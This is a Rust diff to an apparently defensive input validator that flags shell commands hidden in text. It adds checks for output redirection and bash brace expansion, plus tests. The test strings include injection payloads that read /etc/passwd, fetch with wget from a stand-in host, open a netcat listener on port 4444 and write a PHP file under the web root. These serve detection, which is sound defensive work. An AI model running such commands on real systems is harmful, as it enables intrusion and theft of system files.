@@ -635,10 +635,20 @@ fn shell_like_argument(rest: &str) -> bool {
     SENSITIVE_WORDS.contains(base)
         || (UNIX_WORDS.contains(base) && !AMBIGUOUS_WORDS.contains(base))
         || word.starts_with("http")
-        // Output redirected to a file (`echo x > /var/www/s.php`).
-        || rest.contains("> /")
-        || rest.contains(">/")
-        || rest.contains(">&")
+        || redirects(rest)
+}
+
+/// Whether the command's output goes to a file or descriptor at once or
+/// after one word (`echo x > /var/www/s.php`, `id >&2`): `sort by price >
+/// /month` is words.
+fn redirects(rest: &str) -> bool {
+    let rest = rest.trim_start();
+    let after_word = rest.find(char::is_whitespace).map_or("", |i| rest[i..].trim_start());
+    [rest, after_word].iter().any(|r| {
+        r.strip_prefix('>')
+            .map(|r| r.strip_prefix('>').unwrap_or(r).trim_start())
+            .is_some_and(|target| target.starts_with(['/', '&']))
+    })
 }
 
 /// Whether a command runs at byte `i` of `s` (reached as `how`).
@@ -726,6 +736,39 @@ pub fn unix_command(s: &str) -> bool {
             return true;
         }
         i += len;
+    }
+    false
+}
+
+/// Whether a brace expansion in `s` spells a command: bash reads
+/// `{cat,/etc/passwd}` as `cat /etc/passwd` and `{l,-lh}s` as `ls -lhs`,
+/// a command with no spaces. A set (`{1,2,3}`) or an API's field list
+/// (`friends{name,id}`) expands to no command.
+pub fn brace_command(s: &str) -> bool {
+    let b = s.as_bytes();
+    let word = |c: u8| !c.is_ascii_whitespace() && !b"{};|&`()".contains(&c);
+    let mut from = 0;
+    while let Some(open) = s[from..].find('{').map(|i| i + from) {
+        from = open + 1;
+        let Some(close) = s[open..].find('}').map(|i| i + open) else { break };
+        let inner = &s[open + 1..close];
+        if !inner.contains(',') || inner.bytes().any(|c| !word(c)) {
+            continue;
+        }
+        let mut start = open;
+        while start > 0 && word(b[start - 1]) {
+            start -= 1;
+        }
+        let mut end = close + 1;
+        while end < b.len() && word(b[end]) {
+            end += 1;
+        }
+        let (prefix, suffix) = (&s[start..open], &s[close + 1..end]);
+        let expanded: Vec<String> =
+            inner.split(',').filter(|w| !w.is_empty()).map(|w| format!("{prefix}{w}{suffix}")).collect();
+        if unix_command(&expanded.join(" ")) {
+            return true;
+        }
     }
     false
 }
@@ -913,6 +956,7 @@ mod tests {
             "(uname -a)",
             "x; (whoami)",
             "; echo 'x' > /var/www/html/s.php",
+            "; echo x >>/tmp/a",
         ] {
             assert!(unix_command(a), "{a}");
         }
@@ -934,6 +978,7 @@ mod tests {
             "make it so",
             "ping pong",
             "database (mysql) vs postgres",
+            "sort by price > /month",
             "the date is tomorrow",
             "sort by price",
             "id",
@@ -950,6 +995,16 @@ mod tests {
     fn word_lists_are_sorted() {
         for list in [UNIX, AMBIGUOUS, PREFIXES, SENSITIVE, RECON, WINDOWS] {
             assert!(list.windows(2).all(|w| w[0] < w[1]), "{list:?}");
+        }
+    }
+
+    #[test]
+    fn brace_expansions() {
+        for a in ["{cat,/etc/passwd}", ";{wget,http://x.test/a}", "{,ifconfig}", "{l,-lh}s", "{nc,-lvp,4444}"] {
+            assert!(brace_command(a), "{a}");
+        }
+        for t in ["{1,2,3}", "friends{name,id}", "*.{jpg,png}", "{red, green}", "{id,name}", "{a,b"] {
+            assert!(!brace_command(t), "{t}");
         }
     }
 
